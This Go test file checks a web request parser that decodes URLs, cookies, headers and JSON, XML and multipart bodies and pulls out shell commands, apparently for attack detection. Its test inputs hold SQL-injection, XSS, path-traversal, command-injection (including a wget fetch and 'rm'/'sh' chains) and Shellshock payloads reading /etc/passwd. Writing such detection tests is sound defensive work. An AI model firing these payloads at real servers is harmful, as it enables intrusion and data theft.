package web

import (
	"fmt"
	"html"
	"maps"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

var placeNames = [...]string{"path", "query", "name", "param", "header", "body"}

// shown returns a view's inputs but the query, as `place name: form | form`.
func shown(v *View) []string {
	var all []string
	for i := range v.Inputs {
		in := &v.Inputs[i]
		if in.Place != Query {
			all = append(all, fmt.Sprintf("%s %s: %s", placeNames[in.Place], in.Name, strings.Join(v.Forms(in), " | ")))
		}
	}
	return all
}

// lines returns headers in the order of their names.
func lines(h map[string]string) []HeaderLine {
	var all []HeaderLine
	for _, name := range slices.Sorted(maps.Keys(h)) {
		all = append(all, HeaderLine{name, h[name]})
	}
	return all
}

func TestParse(t *testing.T) {
	for _, tt := range []struct {
		name    string
		url     string
		headers map[string]string
		body    string
		want    []string
	}{
		{name: "plain", url: "/index.html", want: []string{"path : /index.html"}},
		{name: "absolute", url: "http://h.test/a?b=c", want: []string{"path : /a", "name : b", "param b: c"}},
		{name: "a URL in a parameter", url: "/a?u=http://h.test/", want: []string{"path : /a", "name : u", "param u: http://h.test/"}},
		{name: "twice", url: "/?q=%2527+or+1", want: []string{"path : /", "name : q", "param q: %2527+or+1 | %27 or 1 | ' or 1"}},
		{name: "%u and full width", url: "/?q=%u0027%uff1c", want: []string{"path : /", "name : q", "param q: %u0027%uff1c | '<"}},
		{name: "overlong", url: "/..%c0%af..%e0%80%af%f0%80%80%af", want: []string{"path : /..%c0%af..%e0%80%af%f0%80%80%af | /../..//"}},
		{name: "entities", url: "/?q=%26lt;x%26%2339;", want: []string{"path : /", "name : q", "param q: %26lt;x%26%2339; | &lt;x&#39; | <x'"}},
		{name: "base64", url: "/?q=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", want: []string{"path : /", "name : q", "param q: PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== | <script>alert(1)</script>"}},
		{name: "no pair", url: "/shell?cd+/tmp;ls", want: []string{"path : /shell", "param : cd+/tmp;ls | cd /tmp;ls"}},
		{name: "a name", url: "/?a%5b%5d=1", want: []string{"path : /", "name : a%5b%5d | a[]", "param a[]: 1"}},
		{name: "cookie", url: "/", headers: map[string]string{"Cookie": "a=1; b=%3c"}, want: []string{"path : /", "name : a", "param a: 1", "name : b", "param b: %3c | <"}},
		{name: "header", url: "/", headers: map[string]string{"X-A": "%24%7bx"}, want: []string{"path : /", "header X-A: %24%7bx | ${x"}},
		{name: "form", url: "/", body: "a=1&b=x+y\r\n", want: []string{"path : /", "name : a", "param a: 1", "name : b", "param b: x+y | x y"}},
		{name: "json", url: "/", body: `{"a": ["\u003cx", 2], "b": "c\/d", "e": {"f": "g`, want: []string{
			"path : /", "name : a", `param a: \u003cx | <x`, "name : b", `param b: c\/d | c/d`, "name : e", "name : f", "param f: g"}},
		{name: "multipart", url: "/", headers: map[string]string{"content-type": "multipart/form-data; boundary=X"},
			body: "--X\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.php\"\r\nContent-Type: text/plain\r\n\r\n<?php\r\n--X\r\nContent-Disposition: form-data; filename=b; name=g\r\n\r\nh\r\n--X--\r\n",
			want: []string{"path : /", "header content-type: multipart/form-data; boundary=X", "name : f", "param filename: a.php", "param f: <?php", "name : g", "param filename: b", "param g: h"}},
		{name: "xml", url: "/", body: `<?xml version="1.0"?><a b='c>"' d="&lt;e"><f>g &amp; h</f></a>`, want: []string{
			"path : /", `body : <?xml version="1.0"?><a b='c>"' d="&lt;e"><f>g &amp; h</f></a> | <?xml version="1.0"?><a b='c>"' d="<e"><f>g & h</f></a>`,
			`param b: c>"`, "param d: &lt;e | <e", "param f: g &amp; h | g & h"}},
		{name: "JSON in a parameter", url: "/?f=%7b%22a%22:%5b%22b'%22%5d%7d&g=%7b1%7d", want: []string{
			"path : /", "name : f", `param f: %7b%22a%22:%5b%22b'%22%5d%7d | {"a":["b'"]}`, "name : a", "param a: b'", "name : g", "param g: %7b1%7d | {1}"}},
		{name: "a list in base64 in a parameter", url: "/?f=WyJhYWFhYWEiXQ==", want: []string{
			"path : /", "name : f", `param f: WyJhYWFhYWEiXQ== | ["aaaaaa"]`, "param f: aaaaaa"}},
		{name: "a list", url: "/", body: `["id"]`, want: []string{"path : /", "param json: id"}},
		{name: "other bodies", url: "/", body: "%3c+a", want: []string{"path : /", "body : %3c+a | < a"}},
	} {
		var v View
		NewParser().Parse(&Request{URL: tt.url, Body: tt.body, Headers: lines(tt.headers)}, &v)
		if d := cmp.Diff(tt.want, shown(&v)); d != "" {
			t.Errorf("%s: (-want +got)\n%s", tt.name, d)
		}
	}
}

func TestShell(t *testing.T) {
	for _, tt := range []struct{ url, want string }{
		{"/?q=cat+notes.txt", ""},
		{"/?cmd=cat+notes.txt", "cat notes.txt\n"},
		{"/?q=1;wget+http://h.test/x", "wget http://h.test/x\n"},
		{"/?q=x'|id'", "id\n"},
		{"/?q=$(id)%60uname%60", "id\nuname\n"},
		{"/?q=a%0aid", "id\n"},
		{"/?q=1%3Bid", "id\n"},
		{"/?q=%22;echo+%22x", "echo \"x\n"},
		{"/shell?cd+/tmp;rm+a;sh+b", "cd /tmp;rm a;sh b\n"},
		{"/$(id)", "id\n"},
		{"/?q=$((1+1))", ""},
	} {
		var v View
		NewParser().Parse(&Request{URL: tt.url}, &v)
		if got := string(v.AppendShell(nil)); got != strings.ReplaceAll(tt.want, `"x`, "x") {
			t.Errorf("AppendShell(%q) = %q, want %q", tt.url, got, tt.want)
		}
	}
}

// TestShort tells values, which an application may hand to an interpreter, from
// what somebody wrote.
func TestShort(t *testing.T) {
	const file = "--x\r\nContent-Disposition: form-data; name=q; filename=a\r\n\r\nb;id\r\n--x--\r\n"
	for _, tt := range []struct {
		url, body string
		want      bool
	}{
		{"/?q=a", "", true},
		{"/?q=" + strings.Repeat("a", 1001), "", false},
		{"/?q=a%0ab%0ac%0ad%0ae", "", false},
		{"/?q=a;id", "", true},
		{"/?comment=a;id", "", false},
		{"/?Post[Text]=a", "", false},
		{"/?body[0][value]=a", "", false},
		{"/?page_body=a;id", "", false},
		{"/?sql=a", "", false},
		{"/?body_class=a", "", true},
		{"/?user[name]=a", "", true},
		{"/?text2image=a", "", true},
		{"/?html[]=a", "", false},
		{"/?f={%22a%22:1}", "", false},
		{"/?f={%22a%22:1};id;{%22b%22}", "", true},
		{"/", file, false},
		{"/", strings.Replace(file, "; filename=a", "", 1), true},
	} {
		var v View
		NewParser().Parse(&Request{URL: tt.url, Body: tt.body}, &v)
		i := slices.IndexFunc(v.Inputs, func(in Input) bool { return in.Place == Param && in.Name != "filename" })
		if got := v.Inputs[i].Short(last(v.Forms(&v.Inputs[i]))); got != tt.want {
			t.Errorf("%s %s: %q is short: %v, want %v", tt.url, tt.body, v.Inputs[i].Name, got, tt.want)
		}
		if got := len(v.AppendShell(nil)) > 0; got != (tt.want && strings.Contains(tt.url+tt.body, ";id")) {
			t.Errorf("%s %s: a shell gets %q", tt.url, tt.body, v.AppendShell(nil))
		}
	}
}

func last(forms []string) string { return forms[len(forms)-1] }

func TestShellshock(t *testing.T) {
	var v View
	h := map[string]string{"User-Agent": "() { :;}; /bin/cat /etc/passwd", "Accept": "text/html;q=0.9, id"}
	NewParser().Parse(&Request{URL: "/cgi-bin/a", Headers: lines(h)}, &v)
	if got, want := string(v.AppendShell(nil)), "/bin/cat /etc/passwd\n"; got != want {
		t.Errorf("AppendShell = %q, want %q", got, want)
	}
}

// TestBounds sends what is beyond each bound: it is cut, and counted.
func TestBounds(t *testing.T) {
	for name, r := range map[string]Request{
		"parameters": {URL: "/?" + strings.Repeat("a=b&", 100000)},
		"body":       {URL: "/", Body: strings.Repeat("x", 16<<20)},
		"json":       {URL: "/", Body: "[" + strings.Repeat(`"a",`, 100000)},
		"parts":      {URL: "/", Body: "--x\r\ncontent-disposition: form-data; name=a\r\n\r\nb" + strings.Repeat("\r\n--x\r\na: b; name=a\r\n\r\nc", 100000)},
		"nested":     {URL: "/?a=" + strings.Repeat("%25", 60000)},
		"nul":        {URL: "/?a=\x00%00\xff%ff" + strings.Repeat(`\u0000`, 60000)},
	} {
		var v View
		NewParser().Parse(&r, &v)
		if len(v.Inputs) > maxInputs || len(v.forms) > maxInputs*maxForms {
			t.Errorf("%s: %d inputs in %d forms", name, len(v.Inputs), len(v.forms))
		}
		if v.InputsLeftOut == 0 && v.BytesLeftOut == 0 {
			t.Errorf("%s: nothing is counted as left out", name)
		}
	}
}

func FuzzParse(f *testing.F) {
	f.Add("/a?b=%2527&c=d", "a=1; b=%c0%af", "application/json", `{"a":"\u0041"}`)
	f.Add("/a;$(id)?`x`", "", "multipart/form-data; boundary=x", "--x\r\nContent-Disposition: form-data; name=a\r\n\r\nb\r\n--x--")
	f.Fuzz(func(t *testing.T, url, cookie, kind, body string) {
		r := &Request{URL: url, Body: body, Headers: lines(map[string]string{"cookie": cookie, "content-type": kind})}
		p := NewParser()
		var v, again View
		p.Parse(r, &v)
		first := append(shown(&v), string(v.AppendShell(nil)))
		for i := range v.Inputs {
			if n := len(v.Forms(&v.Inputs[i])); n == 0 || n > maxForms {
				t.Fatalf("input %d has %d forms", i, n)
			}
		}
		p.Parse(r, &again)
		second := append(shown(&again), string(again.AppendShell(nil)))
		if !slices.Equal(first, second) {
			t.Fatalf("parsed again: %q, want %q", second, first)
		}
	})
}

func BenchmarkParse(b *testing.B) {
	r := &Request{URL: "/wp-content/plugins/a/style.css?ver=6.4.2&x=a+b", Headers: lines(map[string]string{"user-agent": "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36"})}
	p := NewParser()
	var v View
	b.ReportAllocs()
	for b.Loop() {
		p.Parse(r, &v)
	}
}

// FuzzUnentity: a text that is left alone is one that HTML leaves alone.
func FuzzUnentity(f *testing.F) {
	for _, s := range []string{"", "&", "a=1&b=2", "&lt", "&ltx", "&notit;", "&copy=1", "&#60", "&#x3c;", "&color=navy&page;", "&frac12", "&&amp", "&x;", "&\xff;"} {
		f.Add(s)
	}
	for name := range bareEntities {
		f.Add("&" + name + "x")
	}
	f.Fuzz(func(t *testing.T, s string) {
		if got, want := unentity(s), html.UnescapeString(s); got != want {
			t.Errorf("unentity(%q) = %q, want %q", s, got, want)
		}
	})
}
